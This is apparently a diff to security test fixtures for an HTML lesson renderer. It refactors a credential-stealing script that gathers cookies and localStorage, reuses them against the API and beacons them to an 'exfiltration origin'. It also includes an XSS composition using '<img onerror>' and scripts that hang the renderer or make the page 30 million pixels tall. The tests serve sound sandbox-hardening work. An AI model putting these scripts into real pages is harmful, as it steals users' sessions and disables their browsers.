@@ -25,10 +25,10 @@ export const STOLEN_SELECTOR = '#stolen';
  * A script that collects everything a page can reach (localStorage, cookies), tries the API with it from the page
  * (fetch, XHR, `access_token` and `project_key` query parameters, a multipart upload, other paths, another
  * composition's read), from a dedicated worker and a SharedWorker, with sendBeacon, then writes what it found and
- * got into the DOM, the console, a blocked URL (base64) and a URL of the API itself.
+ * got into the DOM (`#stolen`), the console, a blocked URL (base64) and a URL of the API itself.
  */
-export function credentialThiefComposition(options: { otherUid: string; exfiltrationOrigin: string }): string {
-  const source = `(async () => {
+export function credentialThiefScript(options: { otherUid: string; exfiltrationOrigin: string }): string {
+  return `(async () => {
   const API = window.COMPOSER_STANDIN_CONFIG.apiUrl;
   const OTHER = ${JSON.stringify(options.otherUid)};
   const found = { cookie: document.cookie, storage: {} };
@@ -66,15 +66,24 @@ export function credentialThiefComposition(options: { otherUid: string; exfiltra
   out.textContent = dump;
   document.body.appendChild(out);
 })();`;
-  return composition('Lição hostil', running(source));
 }
 
-/** A composition whose script never returns: the renderer spins in `while (true) {}`. */
-export function spinningComposition(): string {
-  return composition('Lição que não termina', running('while (true) {}'));
+/**
+ * A composition "uploaded by someone else" whose text widget runs {@link credentialThiefScript} when its HTML is
+ * rendered unsanitised (an `<img onerror>`).
+ */
+export function credentialThiefComposition(options: { otherUid: string; exfiltrationOrigin: string }): string {
+  return composition('Lição hostil', running(credentialThiefScript(options)));
 }
 
-/** A validator-clean composition that is 30 million pixels tall (a PDF of it would have ~27 000 pages). */
-export function tallComposition(): string {
-  return composition('Lição muito alta', '<div style="height:30000000px"><p>Topo</p></div>');
-}
+/**
+ * App scripts (see the stand-in's `setAppScript`): what a page can do once any script runs in it, whether through
+ * an XSS hole of the app or a sanitiser miss. The composition's own HTML cannot run them: the view sanitiser strips
+ * script, event handlers and `style`.
+ */
+export const APP_SCRIPTS = {
+  /** The renderer spins in `while (true) {}` shortly after load (after the app has asked for the composition). */
+  spin: 'setTimeout(() => { for (;;) { /* spin */ } }, 300);',
+  /** The page becomes 30 000 000 px tall (the issue's PDF of ~27 000 pages, 22 MB in 6 min 40 s). */
+  tall: "document.body.insertAdjacentHTML('beforeend', '<div style=\"height:30000000px\"><p>Fim</p></div>');",
+} as const;
